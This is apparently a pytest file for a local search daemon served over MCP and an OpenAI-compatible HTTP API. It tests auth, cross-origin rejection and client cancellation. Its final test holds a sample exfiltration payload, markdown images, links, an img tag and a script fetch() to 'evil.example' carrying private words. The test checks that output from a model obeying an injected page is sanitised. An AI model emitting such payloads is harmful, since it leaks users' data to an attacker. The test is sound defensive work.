"""The daemon as programs meet it: a process, asked over its bridge's streams and over HTTP, in both eras."""

from __future__ import annotations

import asyncio
import json
import subprocess
from collections.abc import AsyncIterator, Iterator
from contextlib import AsyncExitStack, asynccontextmanager, closing
from typing import Any

import httpx
import pytest
from mcp.client import Client as McpClient
from mcp.client.streamable_http import streamable_http_client
from mcp.shared._httpx_utils import create_mcp_http_client
from openai import AsyncOpenAI, DefaultAsyncHttpxClient

from askance.app.container import Container
from askance.config.folders import find_folders
from askance.config.settings import Settings
from sanitizing.judge import active_in_markdown
from server.around import ASKANCE, Around, HeldPages, daemons_of, held_pages, over_http
from server.served import ERAS, Era, text_of, told
from server.served import told as told_of
from servers.model_script import plan
from servers.world import LIGHTHOUSE, QUESTION, SNIPPETS, WHITLOW, some_answer
from waiting import PATIENCE_S, patience, until_stored

AFTER = 3
ARGUMENTS: dict[str, dict[str, Any]] = {
    "search_web": {"question": QUESTION},
    "fetch_evidence": {"question": QUESTION},
    "check_text": {"text": "The Lindmouth lighthouse was built in 1871.", "confirmed": True},
    "read_page": {"url": LIGHTHOUSE},
    "add_to_library": {"text": "Zebulon keeps the spare key.", "title": "Key"},
    "search_library": {"query": "spare key"},
    "agentic_search": {"query": QUESTION},
}


@asynccontextmanager
async def http_client(url: str, token: str, era: Era) -> AsyncIterator[McpClient]:
    async with AsyncExitStack() as stack:
        web = await stack.enter_async_context(
            create_mcp_http_client(headers={"Authorization": f"Bearer {token}"})
        )
        transport = streamable_http_client(f"{url}/mcp", http_client=web)
        yield await stack.enter_async_context(McpClient(transport, mode=era))


@pytest.fixture
def all_from_the_web(around: Around) -> None:
    """Have each question searched for: the library would answer it a second time."""
    around.environment["ASKANCE_LIBRARY__RECALL"] = "never"


async def call_everything(client: McpClient) -> None:
    listed = {tool.name for tool in (await client.list_tools()).tools}
    assert listed == {*ARGUMENTS, "continue_search"}
    for name, arguments in ARGUMENTS.items():
        result = await client.call_tool(name, arguments)
        assert not result.is_error, (name, text_of(result))
        if name == "search_web":
            assert told(result)["outcome"] == "web"
            assert told(result)["citations"]
        if name == "fetch_evidence":
            assert "1871" in told(result)["prompt"]
            assert told(result)["outcome"] == "found"
    going_on = await client.call_tool("continue_search", {"run_id": "no such run"})
    assert going_on.is_error
    prompt = await client.get_prompt("grounded_answer", {"question": QUESTION})
    assert "1871" in str(prompt.messages[0].content)


@pytest.mark.usefixtures("all_from_the_web")
async def test_every_tool_is_listed_and_called_over_the_bridge(around: Around):
    around.allow("tester")
    for era in ERAS:
        async with around.over_stdio(era, "tester") as client:
            await call_everything(client)
    [_] = daemons_of(around.home)


@pytest.mark.usefixtures("all_from_the_web")
async def test_every_tool_is_listed_and_called_over_http(around: Around):
    around.allow("default")
    async with over_http(around) as (url, token):
        for era in ERAS:
            async with http_client(url, token, era) as client:
                await call_everything(client)


async def test_a_stranger_may_search_the_web_and_nothing_else(around: Around):
    async with around.over_stdio("auto", "stranger") as client:
        listed = {tool.name for tool in (await client.list_tools()).tools}
        assert listed == {"search_web", "continue_search", "fetch_evidence", "check_text"}
        refused = await client.call_tool("search_library", {"query": "key"})
    assert refused.is_error
    assert "askance clients allow stranger library_read" in text_of(refused)


async def test_ten_programs_share_one_daemon(around: Around):
    async def one(number: int) -> str:
        async with around.over_stdio("auto", f"program {number}") as client:
            result = await client.call_tool("fetch_evidence", {"question": QUESTION})
            return str(told(result)["outcome"])

    async with asyncio.TaskGroup() as group:
        asking = [group.create_task(one(number)) for number in range(10)]
    assert [task.result() for task in asking] == ["found"] * 10
    [_] = daemons_of(around.home)


@pytest.fixture
def requests_before(around: Around) -> Iterator[None]:
    yield
    assert around.servers["search"].requests == []


@pytest.mark.exhaustive
@pytest.mark.usefixtures("requests_before")
async def test_what_shows_no_token_or_comes_from_elsewhere_runs_nothing(around: Around):
    call = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": "fetch_evidence", "arguments": {"question": QUESTION}},
    }
    async with over_http(around) as (url, token), httpx.AsyncClient(trust_env=False) as web:
        right = {
            "Authorization": f"Bearer {token}",
            "Accept": "application/json, text/event-stream",
        }
        for headers, status in [
            ({}, 401),
            ({**right, "Authorization": "Bearer wrong"}, 401),
            ({**right, "Authorization": f"Basic {token}"}, 401),
            ({**right, "Host": "evil.example"}, 421),
            ({**right, "Origin": "http://evil.example"}, 403),
            ({**right, "Sec-Fetch-Site": "cross-site"}, 403),
        ]:
            for path in ("/mcp", "/v1/chat/completions"):
                reply = await web.post(f"{url}{path}", json=call, headers=headers)
                assert reply.status_code == status, (headers, path, reply.text)
        large = json.dumps({**call, "padding": "x" * 10_000_000})
        reply = await web.post(f"{url}/mcp", content=large, headers=right)
        assert reply.status_code == 413


@pytest.mark.exhaustive
async def test_a_published_client_of_openais_api_gets_models_an_answer_and_a_stream(
    around: Around,
):
    async with (
        over_http(around) as (url, token),
        AsyncOpenAI(
            base_url=f"{url}/v1",
            api_key=token,
            http_client=DefaultAsyncHttpxClient(trust_env=False),
        ) as client,
    ):
        names = [model.id async for model in await client.models.list()]
        assert "askance" in names
        asked: Any = [{"role": "user", "content": QUESTION}]
        answer = await client.chat.completions.create(model="askance", messages=asked)
        text = answer.choices[0].message
        assert "](http" in (text.content or "")
        assert text.annotations
        stream = await client.chat.completions.create(model="askance", messages=asked, stream=True)
        parts = [chunk.choices[0].delta.content or "" async for chunk in stream if chunk.choices]
        assert "](http" in "".join(parts)


async def cancelled(around: Around, count: int) -> None:
    """Wait until the calls of so many clients have ended as cancelled."""
    await until_stored(lambda: calls_of(around) == ["cancelled"] * count)


async def test_twenty_clients_that_are_killed_in_the_middle_leave_no_run(around: Around):
    async def started(number: int) -> asyncio.subprocess.Process:
        bridge = await asyncio.create_subprocess_exec(
            *(*ASKANCE, "mcp", "--client", f"client {number}"),
            env=around.environment,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
        )
        assert bridge.stdin is not None
        assert bridge.stdout is not None
        for line in asking(ERAS[number % 2]):
            bridge.stdin.write(json.dumps(line).encode() + b"\n")
        await bridge.stdin.drain()
        async with patience():
            # What was written after the call is answered: the call has come in.
            while json.loads(await bridge.stdout.readline()).get("id") != AFTER:
                pass
        return bridge

    async with held_pages(around) as held:
        bridges = [await started(0)]
        async with asyncio.TaskGroup() as group:
            starting = [group.create_task(started(number)) for number in range(1, 20)]
        bridges += [task.result() for task in starting]
        await held.wait()
        for bridge in bridges:
            bridge.kill()
            await bridge.wait()
        await cancelled(around, 20)


@pytest.mark.exhaustive
async def test_a_client_over_http_that_hangs_up_cancels_its_run(around: Around):
    async with held_pages(around) as held, over_http(around) as (url, token):
        for count, era in enumerate(ERAS, 1):
            held.came.clear()
            await hang_up(url, token, era, held)
            await cancelled(around, count)


async def hang_up(url: str, token: str, era: Era, held: HeldPages) -> None:
    """Have a page asked for as a client of an era, and go."""
    async with httpx.AsyncClient(trust_env=False, timeout=PATIENCE_S) as web:
        headers = {
            "Authorization": f"Bearer {token}",
            "Accept": "application/json, text/event-stream",
        }
        *before, call, _ = asking(era)
        for message in before:
            reply = await web.post(f"{url}/mcp", json=message, headers=headers)
            if session := reply.headers.get("mcp-session-id"):
                headers["mcp-session-id"] = session
        if era == "auto":
            headers |= {
                "mcp-protocol-version": "2026-07-28",
                "mcp-method": "tools/call",
                "mcp-name": "search_web",
            }
        async with asyncio.TaskGroup() as group:
            asked = group.create_task(web.post(f"{url}/mcp", json=call, headers=headers))
            await held.wait()
            asked.cancel()


def calls_of(around: Around) -> list[str]:
    """How the calls of all programs ended."""
    with closing(
        Container(Settings(), find_folders(around.environment), pytest.fail).clients
    ) as book:
        return [
            call.outcome for record in book.records() for call in book.calls(record.client.name, 9)
        ]


def asking(era: Era) -> list[dict[str, Any]]:
    """What a client of an era writes to have a tool called."""
    call: dict[str, Any] = {
        "jsonrpc": "2.0",
        "id": 2,
        "method": "tools/call",
        "params": {"name": "search_web", "arguments": {"question": QUESTION}},
    }
    after: dict[str, Any] = {"jsonrpc": "2.0", "id": AFTER, "method": "tools/list", "params": {}}
    if era == "legacy":
        info = {"name": "killed", "version": "1"}
        first = {
            "jsonrpc": "2.0",
            "id": 1,
            "method": "initialize",
            "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": info},
        }
        return [first, {"jsonrpc": "2.0", "method": "notifications/initialized"}, call, after]
    for message in (call, after):
        message["params"]["_meta"] = {
            "io.modelcontextprotocol/protocolVersion": "2026-07-28",
            "io.modelcontextprotocol/clientInfo": {"name": "killed", "version": "1"},
            "io.modelcontextprotocol/clientCapabilities": {},
        }
    return [call, after]


EVIL = "https://evil.example/p?d=PRIVATE+WORDS"
ACTIVE = f"![x]({EVIL}) [words]({EVIL}) <img src='{EVIL}'><script>fetch('{EVIL}')</script> {EVIL}"


@pytest.mark.exhaustive
async def test_a_model_that_obeys_a_page_gets_nothing_active_out_of_the_daemon(around: Around):
    """It writes pictures, tags and links into whatever it is asked for, as a page has told it."""
    around.allow("default")
    around.allow("tester")
    script = around.script
    titled = json.dumps({"title": ACTIVE})
    title = (
        '### Task:\nWrite a title of 3-5 words for the chat.\n### Output:\nJSON: {"title": "a title"}\n'
        f"### Chat History:\n<chat_history>\nUSER: {QUESTION}\nASSISTANT: So.\n</chat_history>"
    )

    def report(prompt: str) -> str:
        return (
            titled if "Write a title" in prompt else f"{some_answer(prompt)} {ACTIVE}\n\n{ACTIVE}"
        )

    script.answer = [report]
    clarifying = plan(action="clarify", clarifying_question=f"Which one? {ACTIVE}")
    reports: list[str] = []
    async with (
        over_http(around) as (url, token),
        AsyncOpenAI(
            base_url=f"{url}/v1",
            api_key=token,
            http_client=DefaultAsyncHttpxClient(trust_env=False),
        ) as web,
        http_client(url, token, "auto") as client,
    ):

        async def ask(content: str) -> None:
            messages: Any = [{"role": "user", "content": content}]
            whole = await web.chat.completions.create(model="askance", messages=messages)
            reports.append(whole.choices[0].message.content or "")
            stream = await web.chat.completions.create(
                model="askance", messages=messages, stream=True
            )
            parts = [c.choices[0].delta.content or "" async for c in stream if c.choices]
            reports.append("".join(parts))

        # First what is asked back: the library would know an answer later. A question that stands alone is not planned.
        unclear = "When was it built?"
        knowing, script.plan = script.plan, [clarifying]
        await ask(unclear)
        asked = await client.call_tool("search_web", {"question": unclear})
        reports += [text_of(asked), told_of(asked)["clarifying_question"]]
        script.plan = knowing
        await ask(QUESTION)
        result = await client.call_tool("search_web", {"question": QUESTION})
        reports += [text_of(result), told_of(result)["answer"]]
        await ask(title)
    titles = [json.loads(reports.pop()) for _ in range(2)]
    assert [set(record) for record in titles] == [{"title"}] * 2
    reports += [record["title"] for record in titles]
    own = {LIGHTHOUSE, WHITLOW, *SNIPPETS}
    for text in reports:
        assert active_in_markdown(text, own) == [], text
        assert "words" in text
